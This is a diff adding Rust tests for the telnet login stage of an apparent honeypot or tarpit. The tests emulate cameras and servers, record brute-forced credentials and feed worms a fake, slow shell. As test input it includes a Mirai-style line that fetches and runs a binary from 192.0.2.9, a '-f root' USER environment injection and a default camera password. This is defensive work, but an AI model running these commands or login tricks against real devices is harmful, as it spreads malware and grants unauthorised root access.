@@ -1,0 +1,194 @@
+//! Transcripts of `telnet_login`.
+
+use tarpit_proto::{persona::Persona, rng::Seed};
+
+use crate::stage::Stage;
+
+/// A client in front of a camera, which has been greeted.
+fn camera() -> Stage {
+    let mut stage = played("ip-camera").open();
+    stage.heard();
+    stage
+}
+
+fn played(persona: &str) -> Stage {
+    let mut stage = Stage::new("telnet_login");
+    stage.profile.persona = Persona::named(persona, &Seed([7; 32])).expect("a persona");
+    stage
+}
+
+#[test]
+fn every_persona_shows_itself_at_once_and_asks_for_a_name() {
+    for (persona, greeting) in [
+        ("debian-12", r"\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd\'\r\nweb08 login: "),
+        ("ip-camera", r"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\nIPC-0707 login: "),
+        ("ubuntu-22.04", r"\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd\'\r\nweb08 login: "),
+        (
+            "windows-server-2019",
+            r"\xff\xfd%\xff\xfb\x01\xff\xfb\x03\xff\xfd\'\xff\xfd\x1f\xff\xfd\x00\xff\xfb\x00Welcome to Microsoft Telnet Service \r\n\n\rlogin: ",
+        ),
+    ] {
+        let mut stage = played(persona).open();
+        assert_eq!((stage.heard().as_str(), stage.moments().len()), (greeting, 0), "{persona}");
+        stage.pass_secs(86_400);
+        assert_eq!(stage.heard(), "", "{persona}");
+    }
+}
+
+#[test]
+fn a_password_is_taken_and_never_judged() {
+    let mut stage = camera();
+    stage.says("root\r\n");
+    assert_eq!(stage.heard(), r"root\r\nPassword: ");
+    stage.says("secret\r\0").pass_secs(600);
+    let text = stage.text();
+    assert!(text.starts_with(r"\r\n\xff\xf1\xff\xf1"), "{text}");
+    assert!(stage.bytes().len() < 160, "{}", stage.bytes().len());
+    assert!(stage.gaps().iter().all(|gap| (7_200..=8_800).contains(gap)));
+    assert_eq!(stage.news, ["validated true root", "learnt user root", "learnt secret secret"]);
+    stage.says("ls\r\n").pass_secs(30 * 86_400);
+    assert!(stage.text().replace(r"\xff\xf1", "") == r"\r\n");
+    assert_eq!(stage.closed, None);
+}
+
+#[test]
+fn guessers_that_offer_line_mode_may_use_it() {
+    // What hydra, ncrack and medusa answer to the greeting, and then the name.
+    for said in [
+        &b"\xFF\xFB\x22\xFF\xFC\x01\xFF\xFC\x1F\xFF\xFE\x01\xFF\xFE\x03"[..],
+        b"\xFF\xFC\x01\xFF\xFC\x1F\xFF\xFE\x01\xFF\xFE\x03\xFF\xFB\x22",
+    ] {
+        let mut stage = camera();
+        stage.says(said);
+        assert_eq!(stage.heard(), r#"\xff\xfd\""#);
+        stage.says("root\r\0");
+        // Told not to echo, we do not.
+        assert_eq!(stage.heard(), r"\r\nPassword: ");
+    }
+}
+
+#[test]
+fn a_terminal_is_asked_for_its_type_and_a_user_taken_from_the_environment() {
+    let mut stage = played("debian-12").open();
+    stage.heard();
+    stage.says(b"\xFF\xFB\x18");
+    let send = r"\xff\xfa\x18\x01\xff\xf0";
+    assert_eq!(stage.heard(), format!(r"{send}\xff\xfb\x03\xff\xfb\x01\xff\xfd\x1f"));
+    stage.says(b"\xFF\xFB\x18\xFF\xFD\x01\xFF\xFD\x03\xFF\xFC\x1F");
+    assert_eq!(stage.heard(), "");
+    stage.says(b"\xFF\xFA\x18\0XTERM\xFF\xF0");
+    stage.says(b"\xFF\xFB\x27\xFF\xFA\x27\0\0USER\x01-f root\xFF\xF0");
+    assert_eq!(stage.heard(), r"\xff\xfa\'\x01\xff\xf0");
+    assert_eq!(stage.news[1..], ["learnt telnet_terminal XTERM", "learnt user -f root"]);
+    stage.says("a");
+    assert_eq!(stage.heard(), "a");
+}
+
+#[test]
+fn no_negotiation_goes_on_for_ever() {
+    let mut stage = camera();
+    // Refused again and again, but not without end.
+    stage.says([&b"\xFF\xFB\xC8"[..]; 1_000].concat()).pass_secs(60);
+    assert_eq!(stage.bytes().len(), 64 * 3);
+    // What agrees with us is not answered at all, nor what refuses.
+    let mut stage = camera();
+    stage.says([&b"\xFF\xFD\x01\xFF\xFB\x1F\xFF\xFC\xC8\xFF\xFE\xC8"[..]; 50].concat());
+    assert_eq!(stage.heard(), "");
+}
+
+#[test]
+fn whoever_enters_nothing_is_asked_again_and_at_last_at_our_pace() {
+    let mut stage = camera();
+    stage.says("\r\nx");
+    stage.heard();
+    stage.says("\x7F\r\n".repeat(150));
+    let at_once = stage.sent.len();
+    assert!((10..=30).contains(&at_once), "{at_once}");
+    stage.pass_secs(80);
+    assert!((9..=12).contains(&(stage.sent.len() - at_once)), "{}", stage.sent.len());
+}
+
+#[test]
+fn strangers_get_what_a_name_would_get_and_silence() {
+    for said in ["GET / HTTP/1.0\r\n\r\n", "SSH-2.0-x\r\n", "EHLO x\r\n", "\x16\x03\x01"] {
+        let mut stage = camera();
+        stage.says(said).pass_secs(86_400);
+        assert_eq!(stage.heard(), r"\r\nPassword: ", "{said}");
+        assert!(!stage.news.iter().any(|news| news.starts_with("learnt")), "{:?}", stage.news);
+    }
+}
+
+#[test]
+fn without_poison_nothing_ever_looks_like_a_shell() {
+    for persona in Persona::names() {
+        let mut stage = played(persona).open();
+        stage.says("root\r\nx\r\nenable\r\nshell\r\n").pass_secs(86_400);
+        let bytes = stage.bytes();
+        let shown = bytes.split(|byte| *byte == b'\n').skip(1).flatten();
+        let prompts = shown.filter(|byte| b"$#>%/?".contains(byte)).count();
+        assert_eq!(prompts, 0, "{persona}: {}", stage.text());
+    }
+}
+
+/// A client that got a shell.
+fn shell(persona: &str) -> Stage {
+    let mut stage = played(persona);
+    stage.profile.poison = true;
+    let mut stage = stage.open();
+    stage.says("root\r\nxc3511\r\n");
+    stage.heard();
+    stage.pass_secs(7);
+    assert_eq!(stage.heard(), "", "the shell comes late");
+    stage.pass_secs(2);
+    stage.news.clear();
+    stage
+}
+
+#[test]
+fn with_poison_a_worm_gets_a_shell_that_answers_late_and_runs_nothing() {
+    let mut stage = shell("ip-camera");
+    assert_eq!(stage.heard(), "# ");
+    stage.says("enable\r\nsystem\r\n").says("/bin/busybox MIRAI\r\n");
+    assert_eq!(stage.heard(), r"enable\r\n");
+    stage.pass_secs(9);
+    assert_eq!(stage.heard(), r"# system\r\n");
+    stage.pass_secs(18);
+    assert_eq!(stage.heard(), r"# /bin/busybox MIRAI\r\nMIRAI: applet not found\r\n# ");
+    stage.says("frob \u{FF}\r\n").pass_secs(9);
+    let commands: Vec<_> = stage.news.iter().map(String::as_str).collect();
+    let wanted = ["enable", "system", "/bin/busybox MIRAI", r"frob \xc3\xbf"];
+    assert_eq!(commands, wanted.map(|line| format!("learnt command {line}")));
+    assert_eq!(stage.closed, None);
+}
+
+#[test]
+fn what_a_worm_fetches_never_comes_and_the_rest_of_its_plan_is_heard() {
+    let mut stage = shell("debian-12");
+    assert_eq!(stage.heard(), "$ ");
+    stage.says("cd /tmp; wget http://192.0.2.9/mirai.arm; chmod 777 mirai.arm\r\n").pass_secs(60);
+    let text = stage.heard().replace(r"\xff\xf1", "");
+    assert_eq!(text, r"\r\nConnecting to 192.0.2.9 (192.0.2.9:80)\r\n");
+    stage.says("./mirai.arm\r\n".repeat(1_000)).pass_secs(30 * 86_400);
+    assert!((200..=260).contains(&stage.news.len()), "{}", stage.news.len());
+    assert_eq!(stage.heard().replace(r"\xff\xf1", ""), "");
+    assert_eq!(stage.closed, None);
+}
+
+#[test]
+fn a_windows_shell_knows_nothing_of_this() {
+    let mut stage = shell("windows-server-2019");
+    assert_eq!(stage.heard(), r"C:\\>");
+    stage.says("sh\r\n").pass_secs(9);
+    assert!(stage.heard().contains(r"\'sh\' is not recognized"));
+}
+
+#[test]
+fn a_hand_over_amid_a_line_loses_nothing() {
+    let mut stage = camera();
+    stage.says("ro").hand_over().says("ot\r").hand_over().says("\nse").hand_over().says("t\r\n");
+    assert_eq!(stage.news[1..], ["learnt user root", "learnt secret set"]);
+    let mut stage = shell("ip-camera");
+    stage.heard();
+    stage.says("id\r\n").pass_secs(3).hand_over().pass_secs(9);
+    assert!(stage.heard().ends_with(r"uid=0(root) gid=0(root)\r\n# "));
+}
